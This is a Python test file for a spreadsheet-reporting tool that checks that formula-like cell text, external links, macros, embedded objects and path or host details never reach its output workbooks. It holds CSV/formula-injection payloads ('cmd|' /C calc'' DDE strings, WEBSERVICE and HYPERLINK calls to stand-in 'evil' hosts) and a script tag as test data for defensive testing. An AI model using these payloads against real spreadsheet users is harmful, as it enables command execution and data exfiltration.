"""Nothing leaks out: text stays text, a submission's ties end with it, and no output says where it was made."""

import getpass
import io
import re
import socket
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree  # noqa: ICN001

import openpyxl
import pytest
from conftest import Office, form_one, project
from openpyxl.comments import Comment
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link import ExternalLink
from openpyxl.workbook.external_link.external import ExternalBook
from openpyxl.worksheet.datavalidation import DataValidation

from xmreport.model.receipts import Outcome, Receipt
from xmreport.reading.markup import walk

ACTIVE = (
    '=HYPERLINK("http://evil.example/","点这里")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "http://evil.example/x",
    "file://evil-host/share",
    "mailto:evil@example",
    "internal:Sheet1!A1",
    "{=1+1}",
    "<script>alert(1)</script>",
    "&amp;]]>",
)
TEXTS = ("项目名称", "项目单位", "备注", "项目代码")


def hostile_form(day: str = "2022年12月8日", **wrong: object) -> bytes:
    """F1 whose every text is one of those, one project a text; `wrong` goes into the first."""
    lines = [
        project(f"{text}第{number}号", **{name: text for name in TEXTS if name not in {"项目名称", "项目代码"}})
        | {"建设内容": text, "立项.办理进展": "正在办理", "立项.办理层级": "县", "立项.拟办结时限": "2023-01-31"}
        for number, text in enumerate(ACTIVE)
    ]
    lines[0] |= wrong
    data = form_one(*lines, day=day)
    # openpyxl, too, turns a text into a formula unless it is told not to.
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    for row in sheet.iter_rows(min_row=6):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    return saved(book)


def saved(book: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def written(office: Office) -> dict[str, bytes]:
    """Every workbook in the outbox by its path there."""
    root = office.home / "outbox"
    return {path.relative_to(root).as_posix(): path.read_bytes() for path in root.rglob("*.xlsx")}


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}


def formulas(data: bytes) -> list[str]:
    """Every formula of every sheet."""
    found: list[str] = []
    for name, xml in parts(data).items():
        if name.startswith("xl/worksheets/sheet"):
            found += [
                element.text or "" for element in ElementTree.fromstring(xml).iter() if element.tag.endswith("}f")
            ]
    return found


def targets(data: bytes) -> list[str]:
    """Where the relations of a workbook point outside it."""
    found: list[str] = []

    def relation(attributes: dict[str, str]) -> None:
        if attributes.get("TargetMode") == "External":
            found.append(attributes["Target"])

    for name, xml in parts(data).items():
        if name.endswith(".rels"):
            walk(xml.encode(), {"Relationship": relation})
    return found


def run(office: Office, now: str = "12-09 18:00", *, publish: bool = True) -> list[Receipt]:
    """One pass with its publishing; a fault of the engine is none of the outcomes."""
    receipts = office.take(now, publish=publish)
    assert not [finding for receipt in receipts for finding in receipt.findings if finding.code == "F11"]
    return receipts


def test_text_that_looks_like_a_formula_stays_text_in_every_workbook(office: Office):
    names = ["=HYPERLINK(1).xlsx", "+cmd.xlsx", "@SUM(1).xlsx", "-1+1.xlsx"]
    office.drop(f"古阳镇/{names[0]}", hostile_form())
    office.drop(f"县水利局/{names[1]}", hostile_form(总投资='=HYPERLINK("http://evil.example/")'))
    office.drop(f"县住建局/{names[2]}", b"not a workbook at all")
    office.drop(f"县住建局/{names[3]}", form_one(unit="=1+1"))
    events = {event.file.rsplit("/", 1)[-1]: event for event in run(office)}
    assert {name: events[name].outcome for name in names[:2]} == {
        names[0]: Outcome.ACCEPTED,
        names[1]: Outcome.RETURNED,
    }
    books = written(office)
    assert len(books) >= 5
    assert [path for path in books if "/退回/" in path]
    everything = ""
    for path, data in books.items():
        assert not [f for f in formulas(data) if re.search(r"HYPERLINK|cmd|WEBSERVICE|^\W*1\+1", f)], path
        outside = [each for each in targets(data) if re.search(r"^[/\\]|:|\.\.", each)]
        assert outside == [], path
        everything += "".join(parts(data).values())
    assert "第0号" in everything
    for name in names[:3]:
        assert name in everything, name
    summary = next(data for path, data in books.items() if path.endswith("汇总表.xlsx") and "周报" in path)
    held = {str(cell.value) for sheet in openpyxl.load_workbook(io.BytesIO(summary)) for row in sheet for cell in row}
    for number, text in enumerate(ACTIVE):
        assert any(f"{text.strip()}第{number}号" in value for value in held), text
    assert any(value.startswith('=HYPERLINK("http://evil') for value in held)


def tied_form() -> bytes:
    """A returned form with everything that a workbook can drag along."""
    book = openpyxl.load_workbook(io.BytesIO(form_one(project("道路工程", 总投资="三千"))))
    sheet = book.active
    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
    link.file_link = Relationship(
        type="externalLinkPath", Target="file:///D:/evil-book.xlsx", TargetMode="External", Id="rId1"
    )
    book._external_links.append(link)
    book.defined_names["evil_name"] = DefinedName("evil_name", attr_text="[1]Sheet1!$A$1")
    sheet["AF1"] = '=WEBSERVICE("http://evil-host/"&B6)'
    sheet["AF2"] = "=cmd|'/C evil'!A0"
    sheet["AF3"] = "=[1]Sheet1!$A$1"
    sheet["AF4"] = '=HYPERLINK("\\\\evil-host\\share","x")'
    sheet["B6"].hyperlink = "http://evil-host/"
    sheet["C6"].comment = Comment("原批注", "某人")
    rule = DataValidation("list", formula1="[1]Sheet1!$A$1:$A$9")
    rule.add("F6")
    sheet.add_data_validation(rule)
    data = saved(book)
    extra = {
        "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 evil macro",
        "xl/connections.xml": b'<connections><connection id="1" name="evil"/></connections>',
        "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 evil object",
        "customXml/item1.xml": b"<evil/>",
    }
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as package:
        for name, content in extra.items():
            package.writestr(name, content)
    return buffer.getvalue()


def test_what_a_submission_is_tied_to_ends_with_it(office: Office):
    data = tied_form()
    assert sum("evil" in text for text in parts(data).values()) >= 6
    office.drop("古阳镇/表.xlsx", data)
    [event] = run(office)
    assert event.outcome == Outcome.RETURNED
    for path, made in written(office).items():
        for name, text in parts(made).items():
            assert "evil" not in text, (path, name)
            assert not re.search(r"vba|connections|embeddings|externalLink|customXml", name), (path, name)


def test_no_output_says_where_or_by_whom_it_was_made(office: Office):
    office.drop("古阳镇/表.xlsx", form_one(project("道路工程")))
    office.drop("县水利局/表.xlsx", form_one(project("水库工程", 总投资="三千"), unit="县水利局"))
    office.drop("县住建局/坏.xlsx", b"PK\x03\x04 broken")
    office.drop("县住建局/网页.xls", b"<html><body><table></table></body></html>")
    run(office)
    here = {str(office.home), str(Path(__file__).parent.parent), str(Path.home()), str(Path.cwd()), sys.prefix}
    names = {socket.gethostname(), getpass.getuser()} - {"root", "localhost"}
    books = written(office)
    assert len(books) >= 4
    for path, data in books.items():
        for name, text in parts(data).items():
            told = [each for each in here | names if len(each) > 3 and each in text]
            assert told == [], (path, name)
            assert not re.search(r"/(?:tmp|home|root)/|[A-Z]:\\\\", text, re.IGNORECASE), (path, name)


def test_characters_that_no_workbook_may_hold_never_make_one_that_does_not_open(office: Office):
    data = form_one(project("道路工程", 备注="占位"), project("桥梁工程", 总投资="三千", 备注="占位"))
    source = parts(data)
    escaped = "甲_x0000_乙_x000B_丙_xFFFE_丁_xFFFF_戊_x001F_己😀_xD800_"
    sheet = next(name for name, text in source.items() if "worksheets/sheet" in name)
    holder = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in source else sheet
    marker = "占位" if "占位" in source[holder] else "&#21344;&#20301;"
    assert marker in source[holder]

    def dropped(unit: str, *, wrong: bool) -> None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as package:
            for name, text in source.items():
                changed = text.replace(marker, escaped) if name == holder else text
                if not wrong:
                    changed = changed.replace("三千", "3000").replace("&#19977;&#21315;", "3000")
                package.writestr(name, changed)
        office.drop(f"{unit}/表\u202e.xlsx", buffer.getvalue())

    dropped("古阳镇", wrong=True)
    dropped("县水利局", wrong=True)
    events = run(office)
    assert {event.outcome for event in events} <= {Outcome.RETURNED, Outcome.ACCEPTED, Outcome.QUARANTINED}
    books = written(office)
    assert books
    for path, made in books.items():
        for name, text in parts(made).items():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(text)
        assert openpyxl.load_workbook(io.BytesIO(made)).sheetnames, path


@pytest.mark.parametrize(
    "named", ["县水利局", "县水利局；古阳镇", "古阳镇\n填报单位：县水利局", "县水利局（代古阳镇）"]
)
def test_what_lands_in_one_units_folder_never_becomes_anothers(office: Office, named: str):
    office.drop("县水利局/表.xlsx", form_one(project("水库工程"), unit="县水利局"))
    run(office, "12-08 10:00", publish=False)
    before = office.state("县水利局", "12-08 12:00")
    assert before.counts is not None
    office.drop("古阳镇/冒名.xlsx", form_one(project("冒名工程"), unit=named))
    [event] = run(office, "12-08 11:00", publish=False)
    assert event.unit in {"古阳镇", None}
    after = office.state("县水利局", "12-08 12:00")
    assert after.counts is not None
    assert (after.counts.seq, after.version) == (before.counts.seq, before.version)


def test_a_second_sheet_cannot_speak_for_another_unit(office: Office):
    office.drop("县水利局/表.xlsx", form_one(project("水库工程"), unit="县水利局"))
    run(office, "12-08 10:00", publish=False)
    before = office.state("县水利局", "12-08 12:00")
    book = openpyxl.load_workbook(io.BytesIO(form_one(project("道路工程"))))
    other = openpyxl.load_workbook(io.BytesIO(form_one(project("冒名工程"), unit="县水利局"))).active
    for number, state in enumerate(("visible", "hidden", "veryHidden")):
        sheet = book.create_sheet(f"附{number}")
        for row in other.iter_rows():
            for cell in row:
                if cell.value is not None:
                    sheet[cell.coordinate] = cell.value
        sheet.sheet_state = state
    office.drop("古阳镇/两家.xlsx", saved(book))
    events = run(office, "12-08 11:00")
    assert {event.unit for event in events} <= {"古阳镇", None}
    after = office.state("县水利局", "12-08 12:00")
    assert (after.counts and after.counts.seq, after.version) == (before.counts and before.counts.seq, before.version)
    for path, data in written(office).items():
        if path.endswith("汇总表.xlsx"):
            assert "冒名工程" not in "".join(parts(data).values()), path


@pytest.mark.skipif(sys.platform == "win32", reason="this system allows no such names")
def test_names_shown_to_people_are_clean_and_those_for_programs_exact(office: Office):
    name = "情况\u202e表\x1b[31m甲\n乙\u200b.xlsx"
    office.drop(f"古阳镇/{name}", form_one(project("道路工程")))
    office.drop(f"县水利局/{name}", form_one(project("水库工程", 总投资="三千"), unit="县水利局"))
    office.drop(f"县住建局/{name}", b"PK\x03\x04 broken")
    ran = office.cli("run", "--now", "2022-12-09T18:00")
    assert ran.status == 0
    shown = ran.out + ran.err + office.cli("status", "--as-of", "2022-12-09T18:30").out
    assert "情况表[31m甲 乙.xlsx" in shown
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f]", shown)
    for path, data in written(office).items():
        assert not re.search("[\u200b-\u200f\u202a-\u202e]", path)
        text = "".join(parts(data).values())
        assert not re.search("[\u200b-\u200f\u202a-\u202e]", text), path
        assert "_x001B_" not in text, path
    office.drop(f"古阳镇/{name}", form_one(project("道路工程二")))
    [event] = run(office, "12-09 18:10")
    assert event.file == f"inbox/guxian/古阳镇/{name}"
